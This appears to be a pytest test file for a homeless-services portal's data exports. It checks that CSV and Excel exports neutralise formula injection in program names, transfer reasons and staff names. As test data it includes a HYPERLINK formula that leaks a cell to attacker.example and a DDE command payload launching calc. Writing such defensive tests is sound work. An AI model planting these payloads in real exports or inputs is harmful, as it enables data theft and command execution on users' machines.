"""Text that agencies and staff type (program names, transfer reasons, staff
names) never runs as a formula in the files the portal exports, whatever the
type of the value a column holds; CSVs open as UTF-8 in Excel and LibreOffice
(a BOM, and a charset on the response); xlsx cells hold the text itself."""

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from hmis_portal.core.exports import safe_cell
from referrals import services as referral_services
from tests.factories import MembershipFactory, OrganizationFactory, StaffFactory
from tests.referrals.factories import ProgramFactory, make_referral, matcher, provider_staff

pytestmark = pytest.mark.django_db
LEAK = '=HYPERLINK("http://attacker.example/?leak="&A4,"Open")'


@pytest.mark.parametrize("value, expected", [
    (LEAK, "'" + LEAK), ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("Safe Haven", "Safe Haven"), ("", ""), (42, 42), (-3, -3), (2.5, 2.5), (None, None),
    (dt.date(2026, 12, 1), dt.date(2026, 12, 1)),
])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


class _Named:
    """Anything that is not a number or a date (a person, an agency, a choice) is written as its text."""

    def __init__(self, text):
        self.text = text

    def __str__(self):
        return self.text


@pytest.mark.parametrize("value, expected", [
    (_Named("=3+3 Matcher"), "'=3+3 Matcher"), (_Named("@Agency"), "'@Agency"), (_Named("Casey"), "Casey"),
])
def test_safe_cell_escapes_whatever_the_type(value, expected):
    assert safe_cell(value) == expected


def _csv_rows(response):
    """The CSV as a spreadsheet program reads it: UTF-8 with its BOM."""
    body = b"".join(response.streaming_content) if response.streaming else response.content
    assert body.startswith(b"\xef\xbb\xbf")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.fixture
def leaky_program():
    organization = OrganizationFactory(name="@Agency")
    return ProgramFactory(organization=organization, name=LEAK)


def test_the_participation_workbook_holds_the_text_itself_and_no_live_formula(client, leaky_program):
    ProgramFactory(organization=OrganizationFactory(name="Café Outreach"), name="-Minus Shelter")
    client.force_login(MembershipFactory().user)
    response = client.get("/onboarding/participation-status.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    by_value = {cell.value: cell for cell in cells}
    for text in (LEAK, "@Agency", "Café Outreach", "-Minus Shelter"):
        assert by_value[text].data_type == "s"
    assert not [cell.value for cell in cells if str(cell.value).startswith("'")]


def test_the_participation_csv_prefixes_formula_text(client, leaky_program):
    OrganizationFactory(name="Café Outreach")
    client.force_login(MembershipFactory().user)
    rows = _csv_rows(client.get("/onboarding/participation-status.csv"))
    assert rows[0][0] == "Organization"
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + LEAK in cells and "'@Agency" in cells and "Café Outreach" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_referrals_export_prefixes_a_transfer_reason_that_starts_with_at(client):
    ces = matcher()
    program = ProgramFactory(name="+Plus Housing")
    provider = provider_staff(program.organization)
    referral = make_referral(program, actor=ces)
    referral_services.referral_request_transfer(actor=provider, referral_id=referral.pk,
                                                reason='@cmd|"/c calc"!A1')
    client.force_login(ces)
    header, *cells = _csv_rows(client.get("/referrals/export.csv"))
    rows = [dict(zip(header, row, strict=True)) for row in cells]
    assert rows[0]["transfer_reason"] == '\'@cmd|"/c calc"!A1'
    assert rows[0]["program"] == "'+Plus Housing"
    assert not [cell for row in rows for cell in row.values() if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_referrals_export_escapes_the_referring_staff_member_s_name(client):
    ces = StaffFactory(groups=["CES team"], full_name="=3+3 Matcher")
    make_referral(ProgramFactory(name="Café Housing"), actor=ces)
    client.force_login(ces)
    header, *cells = _csv_rows(client.get("/referrals/export.csv"))
    (row,) = [dict(zip(header, row, strict=True)) for row in cells]
    assert header[0] == "referral_id"
    assert row["referred_by"] == "'=3+3 Matcher"
    assert row["program"] == "Café Housing"
